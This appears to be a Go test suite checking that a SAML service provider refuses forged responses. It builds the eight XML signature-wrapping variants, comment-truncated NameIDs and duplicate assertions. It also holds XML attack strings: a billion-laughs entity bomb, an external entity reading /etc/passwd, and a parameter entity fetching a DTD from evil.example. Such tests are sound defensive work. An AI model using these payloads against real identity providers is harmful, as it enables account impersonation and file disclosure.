package federation

import (
	"strings"
	"testing"

	"github.com/beevik/etree"

	"github.com/securecart/identity/internal/deployed"
	"github.com/securecart/identity/local/localtest/must"
)

// The signature covers one element, and another is read (Somorovsky et al., On Breaking SAML, USENIX Security 2012).
// Numbers are those of SAML Raider.
func TestAWrappedSignatureSignsNobodyElseIn(t *testing.T) {
	p := newSAMLPeer(t)
	for name, test := range map[string]struct {
		signs string
		wrap  func(root *etree.Element) *etree.Element
	}{
		"XSW1": {"response", func(root *etree.Element) *etree.Element {
			evil, genuine := evilCopy(root), unsignedCopy(root)
			find(evil, "Signature").AddChild(genuine)
			return evil
		}},
		"XSW2": {"response", func(root *etree.Element) *etree.Element {
			evil, genuine := evilCopy(root), unsignedCopy(root)
			evil.InsertChildAt(find(evil, "Signature").Index(), genuine)
			return evil
		}},
		"XSW3": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			root.InsertChildAt(genuine.Index(), withoutSignature(evilCopy(genuine)))
			return root
		}},
		"XSW4": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			evil := withoutSignature(evilCopy(genuine))
			root.InsertChildAt(genuine.Index(), evil)
			root.RemoveChild(genuine)
			evil.AddChild(genuine)
			return root
		}},
		"XSW5": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			root.AddChild(unsignedCopy(genuine))
			turn(genuine)
			return root
		}},
		"XSW6": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			inner := unsignedCopy(genuine)
			turn(genuine)
			find(genuine, "Signature").AddChild(inner)
			return root
		}},
		"XSW7": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			extensions := etree.NewElement("samlp:Extensions")
			extensions.AddChild(withoutSignature(evilCopy(genuine)))
			root.InsertChildAt(genuine.Index(), extensions)
			return root
		}},
		"XSW8": {"assertion", func(root *etree.Element) *etree.Element {
			genuine := find(root, "Assertion")
			inner := unsignedCopy(genuine)
			turn(genuine)
			object := etree.NewElement("ds:Object")
			object.AddChild(inner)
			find(genuine, "Signature").AddChild(object)
			return root
		}},
	} {
		t.Run(name, func(t *testing.T) {
			document := p.response(said{signs: test.signs})
			document.SetRoot(test.wrap(document.Root()))
			text := must.Get(document.WriteToString())(t)
			if !strings.Contains(text, ">eve<") || !strings.Contains(text, ">ada<") {
				t.Fatalf("nothing is wrapped: %s", text)
			}
			who, err := p.finishText(text)
			if who.Subject == "eve" || err == nil && who.Subject != "ada" {
				t.Errorf("%q is signed in", who.Subject)
			}
			if err == nil && name != "XSW7" {
				t.Error("the response is accepted")
			}
		})
	}
}

// turn makes an element the attacker's: about eve, under another ID.
func turn(element *etree.Element) {
	element.CreateAttr("ID", "_evil")
	for _, id := range element.FindElements(".//NameID") {
		id.SetText("eve")
	}
}

func evilCopy(element *etree.Element) *etree.Element {
	evil := element.Copy()
	turn(evil)
	return evil
}

func withoutSignature(element *etree.Element) *etree.Element {
	element.RemoveChild(find(element, "Signature"))
	return element
}

func unsignedCopy(element *etree.Element) *etree.Element { return withoutSignature(element.Copy()) }

// A comment is not part of what is signed. A parser that reads a text up to it would read another one:
// https://duo.com/blog/duo-finds-saml-vulnerabilities-affecting-multiple-implementations
func TestACommentTruncatesNothing(t *testing.T) {
	const whole = "ada@example.com.evil.example"
	for _, comment := range []string{"<!---->", "<!-- x -->", "<?pi x?>"} {
		p := newSAMLPeer(t)
		document := p.response(said{nameID: whole, attributes: strings.ReplaceAll(twice("custom"), "eve@example.com", whole)})
		text := must.Get(document.WriteToString())(t)
		text = strings.ReplaceAll(text, whole, "ada@example.com"+comment+".evil.example")
		if who, err := p.finishText(text); err == nil && (who.Subject != whole || who.Attributes["custom"] != whole) {
			t.Errorf("%s: got %+v; want the whole text, or a refusal", comment, who)
		}
	}
}

func TestXMLBombsAndEntitiesAreRefused(t *testing.T) {
	p := newSAMLPeer(t)
	fresh := func() string { return must.Get(p.response(said{nameID: "ada"}).WriteToString())(t) }
	laughs := `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` +
		`<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	for name, text := range map[string]string{
		"billion laughs": laughs + strings.Replace(fresh(), ">ada<", ">&c;<", 1),
		"external entity": `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` +
			strings.Replace(fresh(), ">ada<", ">&e;<", 1),
		"parameter entity":   `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>` + fresh(),
		"a DOCTYPE at all":   `<!DOCTYPE Response>` + fresh(),
		"deep nesting":       strings.Repeat("<a>", 20_000) + strings.Repeat("</a>", 20_000),
		"too long":           fresh() + strings.Repeat(" ", maxAnswer),
		"no XML":             "{}",
		"nothing":            "",
		"two roots":          fresh() + fresh(),
		"an unknown charset": `<?xml version="1.0" encoding="UTF-7"?>` + fresh(),
	} {
		if who, err := p.finishText(text); err == nil {
			t.Errorf("%s: %q is signed in", name, who.Subject)
		}
	}
}

// The provider itself says too much: everything is signed.
func TestOneAssertionCountsAndNoneInside(t *testing.T) {
	encrypted := func(s *deployed.Stage) { s.Providers["Partner"].ProviderDetails["EncryptedResponses"] = "true" }
	for _, test := range map[string]struct {
		place func(root, assertion, second *etree.Element)
		want  string
	}{
		"two": {func(root, _, second *etree.Element) { root.AddChild(second) }, "2 assertions"},
		"one in another": {func(_, assertion, second *etree.Element) {
			advice := etree.NewElement("saml:Advice")
			advice.AddChild(second)
			assertion.AddChild(advice)
		}, "2 assertions"},
		"a sealed one beside": {func(root, _, second *etree.Element) {
			sealed := etree.NewElement("saml:EncryptedAssertion")
			sealed.AddChild(second)
			root.AddChild(sealed)
		}, "assertions"},
	} {
		p := newSAMLPeer(t)
		document := p.response(said{signs: "nothing"})
		assertion := find(document.Root(), "Assertion")
		test.place(document.Root(), assertion, evilCopy(assertion))
		p.sign(document.Root(), p.key)
		refuses(t, test.want)(p.finish(document))
	}
	p := newSAMLPeer(t, encrypted)
	document := p.response(said{nameID: `ada</saml:NameID><saml:NameID>eve`})
	p.encrypt(document)
	refuses(t, "2 elements NameID")(p.finish(document))
}
